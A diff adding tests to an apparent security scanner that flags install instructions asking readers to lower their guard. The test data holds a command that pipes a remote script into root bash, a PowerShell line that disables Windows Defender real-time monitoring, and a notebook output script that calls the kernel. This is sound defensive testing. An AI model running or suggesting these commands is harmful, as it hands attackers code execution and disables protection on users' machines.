@@ -142,3 +142,15 @@ def test_the_cells_of_a_notebook_are_read(source: str, rule: str) -> None:
 def test_an_output_that_reaches_for_the_kernel_is_found() -> None:
     output = {"text/html": "<script>IPython.notebook.kernel.execute('x')</script>"}
     assert rules_of("demo.ipynb", notebook("1", output)) == {"notebook.active-output"}
+
+
+@pytest.mark.parametrize(
+    ("text", "verdict"),
+    [
+        ("Run:\n\n    curl -k http://203.0.113.1/a | sudo -E bash\n", Verdict.SUSPICIOUS),
+        ("Run:\n\n    Set-MpPreference -DisableRealtimeMonitoring $true\n", Verdict.SUSPICIOUS),
+        ("Run:\n\n    Get-MpPreference | Select DisableRealtimeMonitoring\n", Verdict.SAFE),
+    ],
+)
+def test_readers_are_not_asked_to_lower_their_guard(text: str, verdict: Verdict) -> None:
+    assert verdict_of_text("install.rst", text) is verdict
